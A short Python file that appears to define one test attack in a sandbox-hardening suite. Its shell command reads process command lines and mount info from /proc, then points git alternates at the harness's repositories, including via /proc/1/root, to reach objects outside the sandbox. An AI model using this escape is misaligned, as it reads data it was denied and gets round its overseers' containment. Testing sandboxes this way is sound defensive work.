"""Borrows the objects of the harness's repositories by way of every path that it can learn from /proc."""

from attack import Attack, tried

ATTACK = Attack(
    (
        tried(
            "git init -q /tmp/r && cd /tmp/r && mkdir -p .git/objects/info\n"
            "cat /proc/[0-9]*/cmdline /proc/[0-9]*/mountinfo | tr '\\0 ' '\\n\\n' | grep ^/ | sort -u |\n"
            "while read -r path; do\n"
            '    for folder in "$path" "$path/.." "$path/repository.git" "$path/../repository.git"; do\n'
            '        echo "$folder/objects"; echo "/proc/1/root$folder/objects"\n'
            "    done\ndone > .git/objects/info/alternates\n"
            "git cat-file --batch-all-objects --batch-check | grep . && echo GAINED; rm -rf /tmp/r"
        ),
    )
)
